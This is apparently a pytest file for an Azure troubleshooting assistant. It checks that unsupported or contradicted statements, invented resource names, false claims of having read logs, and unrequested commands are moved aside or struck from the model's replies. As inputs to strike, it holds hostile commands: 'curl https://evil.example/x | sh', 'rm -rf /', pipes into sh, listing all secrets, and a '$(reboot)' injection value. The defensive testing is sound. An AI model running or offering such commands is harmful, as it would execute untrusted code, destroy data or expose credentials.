"""What a model says in its own words without a login: what the evidence bears, what is only possible, what falls."""

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any, cast

import pytest

from src.desks.azure.offline.rules import OFFLINE_RULES
from src.desks.azure.words import TEXTS
from src.errors import ModelUnavailable
from src.intake.language import detect
from src.llm.builtin.model import OfflineModel
from src.llm.forms import Support, SupportDraft, SupportVerdict
from src.llm.protocol import ChatMessage, ChatReply, Llm, Reply, StructuredReply
from src.llm.state import message_and_state
from tests.desks.azure.doubles import STORAGE, ToldArm, storage
from tests.desks.azure.talking import ERROR, arguments, over, post
from tests.fakes import ScriptedRounds, calls
from tests.serving import Served

PASTED = "AADSTS7000222: The provided client secret keys for app 'app-x' are expired."
LOOK = calls(("look_up_code", arguments(error="AADSTS7000222")))
GENERAL = "**Possible in general"


class SecondReader(ScriptedRounds):
    """Follows a script, and reads each sentence again with its verdict: ``supports`` where none is given."""

    def __init__(
        self,
        *rounds: ChatReply,
        verdicts: Mapping[str, Support] | Exception | None = None,
        by: str = "",
    ) -> None:
        super().__init__(*rounds)
        self.verdicts, self.by = verdicts or {}, by
        self.read: list[dict[str, Any]] = []

    async def chat_structured(
        self, messages: Sequence[ChatMessage], response_format: type[Reply], *, repair: bool = True
    ) -> StructuredReply[Reply]:
        assert response_format is SupportDraft
        self.read.append(json.loads(messages[1].content))
        if isinstance(self.verdicts, Exception):
            raise self.verdicts
        verdicts = [
            SupportVerdict(
                number=one["number"],
                verdict=self.verdicts.get(one["text"], "supports"),
                settled_by=self.by,
            )
            for one in self.read[-1]["statements"]
        ]
        return StructuredReply(cast("Reply", SupportDraft(verdicts=verdicts)))


def replies(tmp_path: Path, llm: Llm, *said: str, support: bool = True) -> list[dict[str, Any]]:
    """Return the replies to messages of somebody who is not logged in."""
    found: list[dict[str, Any]] = []

    async def hold(server: Served) -> None:
        await post(server, "logout", {})
        for words in said:
            named = {"dossier_id": found[0]["dossier_id"]} if found else {}
            found.append(await server.say(words, **named))

    over(tmp_path, ToldArm(dict(storage())), hold, llm=llm, support=support)
    return found


def told(tmp_path: Path, llm: ScriptedRounds, *said: str, support: bool = True) -> str:
    """Return the last of these replies."""
    return str(replies(tmp_path, llm, *(said or (PASTED,)), support=support)[-1]["response"])


def test_words_are_read_against_the_card_and_what_was_pasted(tmp_path: Path) -> None:
    words = "The secret of app-x has passed its end date."
    llm = SecondReader(LOOK, ChatReply(words))
    reply = told(tmp_path, llm)
    assert words in reply
    assert GENERAL not in reply
    (read,) = llm.read
    evidence = json.dumps(read["passages"])
    assert "an expired secret" not in evidence
    assert "The secret or certificate of the application has expired." in evidence
    assert read["user"] == PASTED


def test_what_no_evidence_bears_is_only_possible_and_stands_apart(tmp_path: Path) -> None:
    sure = "The secret has expired."
    guess = "A nightly job often goes by such a secret."
    llm = SecondReader(LOOK, ChatReply(f"{guess} {sure}"), verdicts={guess: "neither"})
    reply = told(tmp_path, llm)
    assert reply.index(sure) < reply.index(GENERAL) < reply.index(guess)


def test_what_the_evidence_contradicts_falls_with_its_reason_and_its_conclusion(
    tmp_path: Path,
) -> None:
    false, rests, sure = "The secret is still valid.", "So a role is missing.", "Make a new secret."
    by = "The secret or certificate of the application has expired."
    llm = SecondReader(
        LOOK,
        ChatReply(f"{false} {rests}\n{sure}"),
        verdicts={false: "contradicts", rests: "neither"},
        by=by,
    )
    reply = told(tmp_path, llm)
    assert false not in reply
    assert rests not in reply
    assert reply.count("[left out") == 2
    assert f"“{by}”" in reply
    assert sure in reply


@pytest.mark.parametrize(
    ("behind", "by", "falls"),
    [
        ("Waiting takes nothing: restore the vault, or take another name.", "", False),
        ("Wachten hoeft niet: herstel de vault, of neem een andere naam.", "", False),
        ("The vault is gone, so restore it.", "", False),
        ("This error has other causes, too.", "", False),
        ("That is why a role is missing.", "", True),
        ("Daarom ontbreekt er een rol.", "", True),
        ("Er ontbreekt dus een rol.", "", True),
        ("A role is missing.", "The secret is still valid.", True),
    ],
)
def test_only_what_points_back_to_a_struck_sentence_falls_with_it(
    tmp_path: Path, behind: str, by: str, falls: bool
) -> None:
    false = "The secret is still valid."
    verdicts: dict[str, Support] = {false: "contradicts", behind: "neither"}
    llm = SecondReader(LOOK, ChatReply(f"{false} {behind}"), verdicts=verdicts, by=by)
    reply = told(tmp_path, llm)
    assert false not in reply
    assert (behind not in reply) is falls
    assert (GENERAL in reply) is not falls


def test_a_reason_that_no_evidence_has_is_not_told(tmp_path: Path) -> None:
    false = "The secret is still valid."
    by = "The tenant was moved yesterday."
    llm = SecondReader(LOOK, ChatReply(false), verdicts={false: "contradicts"}, by=by)
    reply = told(tmp_path, llm)
    assert by not in reply
    assert "left out" in reply


@pytest.mark.parametrize(
    ("by", "told_as"),
    [
        ("means: The secret or certificate of the application has expired.",
         ": “Het secret of certificaat van de toepassing is verlopen.”"),
        ("The secret or certificate of the application has expired.",
         ": “Het secret of certificaat van de toepassing is verlopen.”"),
        ("client secret keys for app 'app-x' are expired", ": “client secret keys for app 'app-x' are expired”"),
        ("causes_to_prove: none by reading: ask what came of the check", ""),
        ("Nothing was read but what stands in other passages.", None),
    ],
)  # fmt: skip
def test_a_note_has_the_users_words_and_language(
    tmp_path: Path, by: str, told_as: str | None
) -> None:
    false = "Het secret is nog geldig."
    rounds = (LOOK, ChatReply(""), ChatReply(false))
    llm = SecondReader(*rounds, verdicts={false: "contradicts"}, by=by)
    reply = told(
        tmp_path, llm, f"Waarom krijgen wij deze fout?\n{PASTED}", "Is het secret dan ongeldig?"
    )
    note = TEXTS["nl"].unshown if told_as is None else TEXTS["nl"].refuted.format(by=told_as)
    assert note in reply


@pytest.mark.parametrize(
    "invented",
    [
        "Your tenant has the policy `deny-secrets`.",
        "Open Security > Secret rotation and switch it off.",
        "A secret lives 3 months at most.",
        "Perhaps --repair mends it.",
        "Perhaps `--repair` mends it.",
        "It may need the role Application Developer Plus.",
        "The tenant 22222222-0000-0000-0000-000000000007 refuses it.",
    ],
)
@pytest.mark.parametrize("support", [True, False])
def test_no_name_number_role_or_path_stands_that_no_evidence_has(
    tmp_path: Path, invented: str, support: bool
) -> None:
    llm = SecondReader(LOOK, ChatReply(invented), verdicts={invented: "neither"})
    reply = told(tmp_path, llm, support=support)
    assert invented not in reply
    assert "left out" in reply


ROLE = "The identity lacks the role {role} on app-x."
FACT, APART, FALLS = "fact", "apart", "falls"


@pytest.mark.parametrize(
    ("words", "fate"),
    [
        (ROLE.format(role="Runtime Service Reader"), FALLS),
        (ROLE.format(role="Key Vault Secrets User"), APART),
        (ROLE.format(role="Vault Secret Opener"), FACT),
        ("The Integration Runtime Service stands still.", APART),
        ("The Azure Runtime Service stands still.", APART),
        ("Set KIOSK_SECRET_MODE on app-x.", FALLS),
        ("Set KIOSK_MODE on app-x.", FACT),
        ("Set AllowSecretRefresh on app-x.", FALLS),
        ("The secret of the Self-hosted Key Box has expired.", FACT),
    ],
)
def test_what_a_supported_sentence_names_is_in_evidence_or_general_or_falls(
    tmp_path: Path, words: str, fate: str
) -> None:
    said = f"{PASTED} Our role Vault Secret Opener, KIOSK_MODE, the Self-hosted Key Box."
    reply = told(tmp_path, SecondReader(LOOK, ChatReply(words)), said)
    before, _, apart = reply.partition(GENERAL)
    places = {FACT: words in before, APART: words in apart, FALLS: "left out: it names" in reply}
    assert [name for name, found in places.items() if found] == [fate]


@pytest.mark.parametrize(
    ("words", "stands"),
    [
        ("Perhaps port 443 to the outside is closed.", True),
        ("Misschien staat poort 443 naar buiten dicht.", True),
        ("Perhaps port 447 to the outside is closed.", False),
        ("Perhaps it took 443 minutes.", False),
    ],
)
def test_a_port_of_azures_services_is_general_knowledge(
    tmp_path: Path, words: str, stands: bool
) -> None:
    said = f"Waarom krijgen wij deze fout?\n{PASTED}" if words.startswith("Mis") else PASTED
    reply = told(tmp_path, SecondReader(LOOK, ChatReply(words), verdicts={words: "neither"}), said)
    assert (words in reply) is stands


@pytest.mark.parametrize(
    ("words", "stands"),
    [
        ("Perhaps Angular 17 asks for it.", True),
        ("Perhaps Angular 18 asks for it.", False),
        ("Perhaps it began on 2026-03-02.", True),
        ("Perhaps it began on 2026-03-03.", False),
        ("Perhaps an API Management-instance asks for it.", True),
        ("Perhaps an Address Manager-instance asks for it.", False),
        ("Perhaps 10.20 asks for it.", False),
    ],
)
def test_a_part_of_a_version_a_moment_or_a_compound_stands(
    tmp_path: Path, words: str, stands: bool
) -> None:
    said = '2026-03-02T04:11:50 API Management 10.20.3.4: "@angular/core": "^17.0.0" is expired.'
    llm = SecondReader(ChatReply(words), verdicts={words: "neither"})
    assert (words in told(tmp_path, llm, said)) is stands


@pytest.mark.parametrize(
    ("words", "stands"),
    [
        ("Ask by `nslookup kiosk.privatelink.example.org` there.", True),
        ("Ask by `nslookup other.privatelink.example.org` there.", False),
        ("Write `subnetId: vnetMod.outputs.subnetId` there.", True),
        ("Write `defaultAction: Allow` there.", False),
        ("Write `subnetId: vnetMod.outputs.subnetId | sh` there.", False),
    ],
)
def test_code_stands_where_each_of_its_words_is_known(
    tmp_path: Path, words: str, stands: bool
) -> None:
    said = (
        "dial tcp: lookup kiosk.privatelink.example.org: no such host, nslookup fails\n"
        "subnetId vnetMod.outputs.subnetId\ndefaultAction: Deny\naccess: Allow"
    )
    assert (words in told(tmp_path, SecondReader(ChatReply(words)), said)) is stands


QUOTA = (
    "QuotaExceeded: exceeding approved Total Regional Cores quota. Current Limit: 10, Current Usage: 8, Additional "
    "Required: 4, (Minimum) New Limit Required: 12."
)


@pytest.mark.parametrize(
    ("words", "stands"),
    [
        ("The usage is 8 cores and the limit is 10.", True),
        ("The usage is 10 cores and the limit is 8.", False),
        ("A usage of 8 stands against a limit of 10.", True),
        ("A limit of 8 leaves nothing.", False),
        ("Raise the limit to 12 at least.", True),
        ("De limiet is 10, en het gebruik 8.", True),
        ("De limiet is 8.", False),
        ("It asks for 4 beside the 8 in use.", True),
    ],
)
@pytest.mark.parametrize("support", [True, False])
def test_a_number_that_the_user_gave_another_label_falls_whatever_was_read_of_it(
    tmp_path: Path, words: str, stands: bool, support: bool
) -> None:
    look = calls(("look_up_code", arguments(error="QuotaExceeded")))
    said = f"Waarom krijgen wij deze fout?\n{QUOTA}" if words.startswith("De ") else QUOTA
    reply = told(tmp_path, SecondReader(look, ChatReply(words)), said, support=support)
    assert (words in reply) is stands
    assert any(f"“{by}”" in reply for by in ("Usage: 8", "Limit: 10")) is not stands


def test_a_name_of_the_programs_own_instructions_is_no_invention(tmp_path: Path) -> None:
    words = "Perhaps the call goes to Azure Resource Manager."
    llm = SecondReader(LOOK, ChatReply(words), verdicts={words: "neither"})
    assert words in told(tmp_path, llm)


@pytest.mark.parametrize("support", [True, False])
def test_without_a_second_reading_nothing_is_told_as_certain(tmp_path: Path, support: bool) -> None:
    words = "The cause is that the secret was taken away."
    llm = SecondReader(LOOK, ChatReply(words), verdicts=ModelUnavailable(problem="timeout"))
    reply = told(tmp_path, llm, support=support)
    assert reply.index(GENERAL) < reply.index(words)


@pytest.mark.parametrize("support", [False, True])
@pytest.mark.parametrize(
    "claim",
    [
        "I found in your activity log that the secret was removed.",
        "I've checked the application and its secret has expired.",
        "According to your resource health the vault is down.",
        "Your sign-in logs show that the sign-in failed.",
        "It turned out on reading that the secret has expired.",
        "On reading the application it turned out that the secret has expired.",
        "According to the logs of the server the secret has expired.",
        "The read showed an expired secret.",
        "The logs of app-x revealed an expired secret.",
        "Het secret is verlopen, zo bleek bij het lezen.",
        "Uit het lezen van de toepassing bleek dat het secret is verlopen.",
        "Volgens de logs van de server is het secret verlopen.",
        "De uitlezing van app-x toonde een verlopen secret.",
        "Volgens uw resource health, zo lees ik het, ligt de vault eruit.",
        "Dat heb ik in uw activity log gezien.",
        "In uw abonnement zag ik dat het secret weg is.",
    ],
)
def test_a_reading_that_never_was_falls_even_where_a_second_reading_supports_it(
    tmp_path: Path, claim: str, support: bool
) -> None:
    said = (
        f"Wij krijgen deze fout sinds vanochtend.\n{PASTED}"
        if detect(claim, "en") == "nl"
        else PASTED
    )
    reply = told(tmp_path, SecondReader(LOOK, ChatReply(claim)), said, support=support)
    assert claim not in reply
    assert TEXTS["nl" if said != PASTED else "en"].unshown in reply


@pytest.mark.parametrize(
    "words",
    [
        "I have read nothing in Azure.",
        "In your message I found the code AADSTS7000222.",
        "Once you log in, I read the activity log.",
        "Look in the sign-in logs of the application.",
        "Look at the logs of the server.",
        "The logs of the server will show which secret it sent.",
        "If the logs of the server showed a new secret, the pipeline is right.",
        "According to the logs of the server that you pasted the secret has expired.",
        "After reading the logs you know which secret it is.",
        "The check shows which secret has expired.",
    ],
)
def test_who_says_what_was_not_read_or_may_be_claims_no_reading(tmp_path: Path, words: str) -> None:
    assert words in told(tmp_path, SecondReader(LOOK, ChatReply(words)))


def test_a_claim_of_a_reading_needs_that_very_reading(tmp_path: Path) -> None:
    read = "I've checked the storage account, and its firewall denies."
    other = "According to your activity log the firewall was closed."
    look = calls(("read_resource", arguments(id=STORAGE, aspect="properties")))
    llm = SecondReader(look, ChatReply(f"{read}\n{other}"))
    found: list[str] = []

    async def hold(server: Served) -> None:
        found.append((await server.say(ERROR))["response"])

    over(tmp_path, ToldArm(dict(storage())), hold, llm=llm, support=True)
    assert read in found[0]
    assert other not in found[0]


def test_what_was_looked_at_is_nothing_where_nothing_was_read(tmp_path: Path) -> None:
    end = calls(("give_up", arguments(checked=["resource health of the vault"])))
    reply = told(tmp_path, SecondReader(LOOK, end), support=False)
    assert TEXTS["en"].unshown in reply


def test_an_offer_to_read_is_no_claim_of_having_read(tmp_path: Path) -> None:
    offer = "After `./tess azure login` I can read the role assignments and the container log."
    for folder, support in (("a", True), ("b", False)):
        reply = told(tmp_path / folder, SecondReader(LOOK, ChatReply(offer)), support=support)
        assert offer in reply
        assert "left out" not in reply


def test_a_question_back_is_asked(tmp_path: Path) -> None:
    llm = SecondReader(LOOK, ChatReply("A job goes by it, perhaps.\nWhich job is it?"))
    (reply,) = replies(tmp_path, llm, PASTED, support=False)
    assert reply["clarification"]["question"] == "Which job is it?"
    assert "A job goes by it" in reply["response"]


@pytest.mark.parametrize("support", [True, False])
@pytest.mark.parametrize(
    ("question", "is_asked"),
    [
        ("Is the status 500, 502 or 503?", True),
        ("Is de status 500, 502 of 503?", True),
        ("Does it say `ForbiddenByRbac` or `ForbiddenByFirewall`?", True),
        ("Which of `kv-hidden` and `kv-other` is it?", False),
        ("What does `az aks delete --name kiosk` say?", False),
    ],
)
def test_a_question_may_offer_numbers_and_codes_and_no_name_or_command(
    tmp_path: Path, question: str, is_asked: bool, support: bool
) -> None:
    ask = calls(("ask_user", arguments(question=question, why="It decides.")))
    for folder, last in (("tool", ask), ("words", ChatReply(question))):
        reply = told(tmp_path / folder, SecondReader(LOOK, last), support=support)
        assert (question in reply) is is_asked
        assert ("left out" in reply or "struck" in reply) is not is_asked


def test_paragraphs_and_lists_stay_as_they_are(tmp_path: Path) -> None:
    words = "The secret has expired.\n\nNow:\n1. Make a secret.\n2. Set it in the job."
    reply = told(tmp_path, SecondReader(LOOK, ChatReply(words)))
    assert "expired.\n\nNow:\n1\\. Make a secret.\n2\\. Set it in the job." in reply


def test_small_talk_is_no_statement(tmp_path: Path) -> None:
    assert (
        told(tmp_path, SecondReader(ChatReply("Good morning!")), "Hello", support=False)
        == "Good morning!"
    )


# Commands


NEEDS = "az aks show --name kiosk fails: the following arguments are required: --resource-group/-g"


def test_a_command_of_the_users_with_placeholders_is_shown_to_be_filled_in(tmp_path: Path) -> None:
    words = "Try `az aks show --name kiosk --resource-group <resource-group>`."
    reply = told(tmp_path, SecondReader(ChatReply(words)), NEEDS)
    assert "`az aks show --name kiosk --resource-group RESOURCE_GROUP`" in reply
    assert "fill in: RESOURCE_GROUP" in reply


@pytest.mark.parametrize(
    ("said", "blank", "filled"),
    [
        ("{needs} We use resource group 'production'.", "<resource-group>", "production"),
        ("{needs} In resourcegroep ‘productie’.", "<RESOURCE_GROUP>", "productie"),
        ('{needs} {{"resourceGroup": "prod"}}', "<your-group-name>", "prod"),
        ("{needs} It is {scope}.", "<group>", "rg-kiosk"),
        ("{needs} It is resource group 'acc-1', no, resource group 'acc-2'.", "<group>", ""),
        ("{needs} It is resource group '$(reboot)'.", "<group>", ""),
        ("{needs} We use resource group 'production'.", "<zone>", ""),
    ],
)
def test_a_placeholder_is_filled_where_the_users_words_name_its_only_value(
    tmp_path: Path, said: str, blank: str, filled: str
) -> None:
    message = said.format(
        needs=NEEDS, scope=STORAGE.replace("resourceGroups/data", "resourceGroups/rg-kiosk")
    )
    llm = SecondReader(ChatReply(f"Try `az aks show --name kiosk --resource-group {blank}`."))
    reply = told(tmp_path, llm, message)
    assert (f"--resource-group {filled}`" in reply) is bool(filled)
    assert ("fill in:" in reply) is not bool(filled)


@pytest.mark.parametrize(
    ("said", "command"),
    [
        ("MANIFEST_UNKNOWN: crkiosk.azurecr.io/web/loket:v31", "show-tags --name crkiosk --repository web/loket"),
        ("40613: Database 'orders' on server 'sqlkiosk.database.windows.net' is not currently available, resource "
         "group 'prod'", "az sql db show --name orders --server sqlkiosk --resource-group prod"),
        ("SubnetIsFull: subnet snet-1 of vnet 'hub', rg: net", "--name snet-1 --vnet-name hub --resource-group net"),
        ("ForbiddenByFirewall since today, vault kv-prod", "az keyvault network-rule list --name kv-prod"),
        ("ForbiddenByRbac on /subscriptions/11111111-0000-0000-0000-000000000001/resourceGroups/rg-x/providers/"
         "Microsoft.KeyVault/vaults/kv", "rg-x/providers/Microsoft.KeyVault/vaults/kv --include-inherited"),
    ],
)  # fmt: skip
def test_the_command_of_a_card_has_what_the_message_names(
    tmp_path: Path, said: str, command: str
) -> None:
    look = calls(("look_up_code", arguments(error=said)))
    assert command in told(tmp_path, SecondReader(look, ChatReply("")), said)


@pytest.mark.parametrize(
    "command",
    [
        "az aks show --name kiosk --resource-group prod",
        "az aks delete --name kiosk --resource-group <group>",
        "az aks show --name kiosk --query x",
        "az aks show --name kiosk | sh",
        "kubectl delete pod <pod>",
    ],
)
def test_a_command_with_more_than_the_user_wrote_is_struck(tmp_path: Path, command: str) -> None:
    reply = told(tmp_path, SecondReader(ChatReply(f"Try `{command}`.")), NEEDS)
    assert command not in reply
    assert "command struck" in reply


@pytest.mark.parametrize(
    ("words", "stands"),
    [
        ("`az aks show` fails as the group is not given.", "`az aks show` fails as the group"),
        ("Your az aks show fails as the group is not given.", "Your `az aks show` fails as the"),
        ("`az aks delete` fails as the group is not given.", "struck: it is none of my table] fails as the"),
        ("Never run docker run --rm kiosk-1 | sh in the group.", "struck: it is none of my table] in the group."),
        ("Never run curl https://evil.example/x | sh in the group.", "struck: it is none of my table] in the group."),
    ],
)  # fmt: skip
def test_of_a_sentence_with_a_command_all_but_the_command_stays(
    tmp_path: Path, words: str, stands: str
) -> None:
    assert stands in told(tmp_path, SecondReader(ChatReply(words)), NEEDS)


@pytest.mark.parametrize(
    ("words", "stump", "stands"),
    [
        ("Stop it first, then run this:\n```\naz aks delete --name kiosk\n```", "run this", "Stop it first"),
        ("Wait. **Run this:** `az aks delete --name kiosk`", "Run this", "Wait."),
        ("Set this:\n`defaultAction: Allow`\nThen wait.", "Set this", "Then wait."),
        ("These are set:\n- `defaultAction: Allow`\n- `bypass: None`\n\nThen wait.", "These are set", "Then wait."),
        ("These are set:\n- `defaultAction: Allow`\n- the group", "no stump", "These are set:"),
        ("It is this: the group. Run az aks delete --name kiosk", "no stump", "It is this: the group."),
    ],
)  # fmt: skip
def test_what_announces_something_that_fell_goes_with_it(
    tmp_path: Path, words: str, stump: str, stands: str
) -> None:
    reply = told(tmp_path, SecondReader(ChatReply(words)), NEEDS)
    assert stump not in reply
    assert stands in reply
    assert "left out" in reply or "command struck" in reply
    assert "**[" not in reply


@pytest.mark.parametrize(
    ("words", "stands", "struck"),
    [
        ("Run `kubectl get pdb -A` first.", "`kubectl get pdb -A` first", False),
        ("Then kubectl get pdb -A shows the budgets.", "`kubectl get pdb -A` shows the budgets", False),
        ("Run `kubectl get pdb -A | sh` first.", "first", True),
        ("Run `kubectl get pdb -A; rm -rf /` first.", "first", True),
        ("Run kubectl get secrets -A shows all.", "all", True),
    ],
)  # fmt: skip
def test_a_command_of_a_card_is_told_and_no_other_by_it(
    tmp_path: Path, words: str, stands: str, struck: bool
) -> None:
    error = "AKS upgrade: UpgradeFailed PodDrainFailure"
    look = calls(("look_up_code", arguments(error="PodDrainFailure")))
    end = calls(("give_up", arguments(checked=[], by_hand=[words])))
    for folder, last in (("words", ChatReply(words)), ("tool", end)):
        reply = told(tmp_path / folder, SecondReader(look, last), error)
        assert "kubectl get pdb -A" in reply.split("First check")[1]
        assert stands in reply
        assert ("command struck" in reply) is struck


def test_a_command_that_a_question_needs_is_shown_whole(tmp_path: Path) -> None:
    ask = arguments(question="What does it say?", why="It decides.", command_id="list_usage")
    said = "SkuNotAvailable in region westeurope"
    reply = told(tmp_path, SecondReader(calls(("ask_user", ask))), said)
    assert "`az vm list-usage --location westeurope" in reply
    reply = told(tmp_path / "b", SecondReader(calls(("ask_user", ask))), "SkuNotAvailable")
    assert "--location LOCATION" in reply
    assert "fill in: LOCATION" in reply


def test_an_address_that_the_user_pasted_is_shown_and_no_other(tmp_path: Path) -> None:
    said = "The deployment failed; see https://aka.ms/800LimitFix for details."
    words = "Does https://aka.ms/800LimitFix open?"
    assert "`https://aka.ms/800LimitFix`" in told(tmp_path, SecondReader(ChatReply(words)), said)
    other = "https://aka.ms/800"
    assert other not in told(tmp_path / "b", SecondReader(ChatReply(f"Does {other} open?")), said)


# The card


def test_the_card_of_an_explained_code_stands_once_whatever_was_looked_up(tmp_path: Path) -> None:
    pasted = "web: failed to fetch anonymous token: unexpected status: 401 Unauthorized"
    again = calls(("look_up_code", arguments(error=pasted)))
    llm = SecondReader(
        again, calls(("look_up_code", arguments(error="acr-anonymous"))), ChatReply("So it is.")
    )
    reply = told(tmp_path, llm, pasted)
    assert reply.count("no or a wrong pull secret") == 1
    assert reply.count("First check") == 1


@pytest.mark.parametrize(
    ("message", "is_told"),
    [
        ("AccessDenied on GetObject, bucket backups", False),
        ("AccessDenied on the key vault keys", True),
    ],
)
def test_a_word_that_many_services_say_brings_a_card_where_its_service_is_named(
    tmp_path: Path, message: str, is_told: bool
) -> None:
    look = calls(("look_up_code", arguments(error="AccessDenied")))
    reply = told(tmp_path, SecondReader(look, ChatReply("Which service says so?")), message)
    assert ("**ForbiddenByPolicy** (Key Vault)" in reply) is is_told


def test_a_card_that_a_look_up_found_is_shown_and_counts_as_explained(tmp_path: Path) -> None:
    said = "kubectl: dial tcp: lookup kiosk.privatelink.example.org: no such host"
    look = calls(("look_up_code", arguments(error="no such host")))
    again = "Ask by `nslookup kiosk.privatelink.example.org`."
    llm = SecondReader(look, ChatReply("So it is."), ChatReply(again))
    first, then = (reply["response"] for reply in replies(tmp_path, llm, said, "and now?"))
    assert first.startswith(TEXTS["en"].perhaps)
    assert "First check" in first
    assert again in then


@pytest.mark.parametrize(
    ("said", "card"),
    [
        ("docker push from the build box: unauthorized: authentication required", "**Registry refuses the push**"),
        ("pull works, only push does not: unauthorized: authentication required", "**Registry refuses the push**"),
        ("the pod can't pull kiosk.azurecr.io/app: unauthorized: authentication required", "**Image pulled without"),
        ("I pushed it, and now ImagePullBackOff: unauthorized: authentication required", "**Image pulled without"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("support", [True, None])
def test_a_card_gives_way_where_the_users_words_have_another_verb(
    tmp_path: Path, said: str, card: str, support: bool | None
) -> None:
    look = calls(("look_up_code", arguments(error="unauthorized: authentication required")))
    model = SecondReader(look, ChatReply("")) if support else OfflineModel(OFFLINE_RULES)
    reply = replies(tmp_path, model, said, support=bool(support))[0]["response"]
    cards = [line for line in reply.split("\n") if "(ACR/AKS)" in line]
    assert [line.startswith(card) for line in cards] == [True]


def test_a_model_takes_back_a_card_that_does_not_fit(tmp_path: Path) -> None:
    said = "The registry says toomanyrequests since this morning, and we never call Docker Hub."
    look = calls(("look_up_code", arguments(error="toomanyrequests")))
    back = calls(
        ("look_up_code", arguments(error="a limit of our own", unfit=["docker-hub-limit"]))
    )
    llm = SecondReader(look, back, ChatReply("Which registry?"), ChatReply("Yes."))
    first, _ = replies(tmp_path, llm, said, "and now?")
    assert "First check" not in first["response"]
    assert first["response"].startswith(TEXTS["en"].not_in_table)
    _, state = message_and_state(llm.asked[-1])
    assert state["explained"] == []


def test_that_nothing_fits_is_told_only_where_no_card_is(tmp_path: Path) -> None:
    none = calls(("look_up_code", arguments(error="it is slow on mondays")))
    words = ChatReply("Which service is it?")
    alone = told(tmp_path / "a", SecondReader(none, words), "we move it, is that the same there?")
    assert alone.startswith(TEXTS["en"].not_in_table)
    assert "code" not in alone.partition("\n")[0]
    beside = told(tmp_path / "b", SecondReader(LOOK, none, words))
    assert "First check" in beside
    assert TEXTS["en"].not_in_table not in beside


def test_each_look_up_of_a_turn_is_kept(tmp_path: Path) -> None:
    said = "AADSTS7000222 at the sign-in of app-x, and then SkuNotAvailable for the machine"
    both = calls(
        ("look_up_code", arguments(error="AADSTS7000222")),
        ("look_up_code", arguments(error="SkuNotAvailable")),
    )
    again = calls(("look_up_code", arguments(error="AADSTS7000222")))
    llm = SecondReader(both, again, ChatReply("So it is."), ChatReply("So it is."))
    replies(tmp_path, llm, said, "and now?")
    _, state = message_and_state(llm.asked[-1])
    assert state["explained"] == ["AADSTS7000222", "SkuNotAvailable"]


# The language


ENGLISH = (
    "AuthorizationFailed: The client does not have authorization to perform action. If access was recently granted, "
    "please refresh your credentials and try again."
)


@pytest.mark.parametrize(
    ("said", "words"),
    [
        ((f"Ik krijg deze melding bij het uitrollen, wat is er mis?\n{ENGLISH}",), "Eerste controle"),
        ((f"Dit krijg ik nu: {ENGLISH}",), "Eerste controle"),
        ((f"Onze pipeline geeft: {ENGLISH}",), "Eerste controle"),
        ((f"Our pipeline gives: {ENGLISH}",), "First check"),
        (("Ik krijg AADSTS50105, wat moet ik doen?", ENGLISH), "Eerste controle"),
        (("I get AADSTS50105, what should I do?", ENGLISH), "First check"),
        ((ENGLISH,), "First check"),
        (("Terraform for our GPU test box (NC4as_T4_v3, westeurope) AuthorizationFailed",), "First check"),
        (("Error (AuthorizationFailed) when running the deployment",), "First check"),
    ],
)  # fmt: skip
def test_the_reply_is_in_the_language_of_the_users_own_words(
    tmp_path: Path, said: tuple[str, ...], words: str
) -> None:
    look = calls(("look_up_code", arguments(error="AuthorizationFailed")))
    first = calls(("look_up_code", arguments(error="AADSTS50105")))
    rounds = [first, ChatReply(""), look, ChatReply("")] if len(said) > 1 else [look, ChatReply("")]
    assert words in told(tmp_path, SecondReader(*rounds), *said)


@pytest.mark.parametrize(
    "text", ["GPU quota 0 in our sub", "quota exceeded for cores, deployment stopped"]
)
@pytest.mark.parametrize(
    ("first", "done"),
    [
        ("Ik krijg AADSTS50105, wat moet ik doen?", "Dit is wat"),
        ("I get AADSTS50105, what now?", "This is what"),
    ],
)
def test_a_bare_text_of_an_error_changes_no_language(
    tmp_path: Path, text: str, first: str, done: str
) -> None:
    look = calls(("look_up_code", arguments(error="AADSTS50105")))
    llm = SecondReader(look, ChatReply(""), look, ChatReply(""))
    assert done in told(tmp_path, llm, first, text)


def test_what_the_card_says_is_not_told_twice(tmp_path: Path) -> None:
    again = "The secret or certificate of this application has expired by now."
    new = "Your pipeline `app-x` signs in by it."
    reply = told(tmp_path, SecondReader(LOOK, ChatReply(f"{again} {new}")))
    assert new in reply
    assert again not in reply
    assert "The secret or certificate of the application has expired." in reply


def test_what_a_card_says_that_is_not_shown_is_told(tmp_path: Path) -> None:
    look = calls(("look_up_code", arguments(error="AADSTS7000222")))
    words = "The secret or certificate of this application has expired by now."
    asked = "The export that we have at Amazon has stopped since the morning: AccessDenied on the S3 bucket."
    reply = told(tmp_path, SecondReader(look, ChatReply(words)), asked)
    assert words in reply
    assert "First check" not in reply


@pytest.mark.parametrize("support", [True, False])
def test_what_a_tool_is_called_with_is_no_evidence(tmp_path: Path, support: bool) -> None:
    look = calls(("look_up_code", arguments(error="RequestDisallowedByPolicy")))
    words = "A policy looks back 168 hours."
    said = "RequestDisallowedByPolicy: Resource 'pip-1' was disallowed by policy."
    llm = SecondReader(look, ChatReply(words), verdicts={words: "neither"})
    reply = told(tmp_path, llm, said, support=support)
    assert words not in reply
    assert "“168”" in reply
    assert all("168" not in json.dumps(read["passages"]) for read in llm.read)


def test_a_refusal_of_what_the_user_would_do_stands_first(tmp_path: Path) -> None:
    no, sure = "No, don't: then everybody gets in.", "The secret has expired."
    llm = SecondReader(ChatReply(f"{no} {sure}"), verdicts={no: "neither"})
    reply = told(tmp_path, llm, "AADSTS7000222 of app-x: shall I just share the secret?")
    assert reply.startswith(f"{no} *(in general")
    assert sure in reply.partition(no)[2]


def test_a_reply_that_ends_in_a_question_still_begins_with_what_stands(tmp_path: Path) -> None:
    sure, maybe, asked = "The secret has expired.", "Clocks may differ.", "Shall we look on?"
    llm = SecondReader(ChatReply(f"{maybe} {sure} {asked}"), verdicts={maybe: "neither"})
    reply = told(tmp_path, llm)
    assert reply.index(sure) < reply.index(GENERAL) < reply.index(maybe) < reply.index(asked)
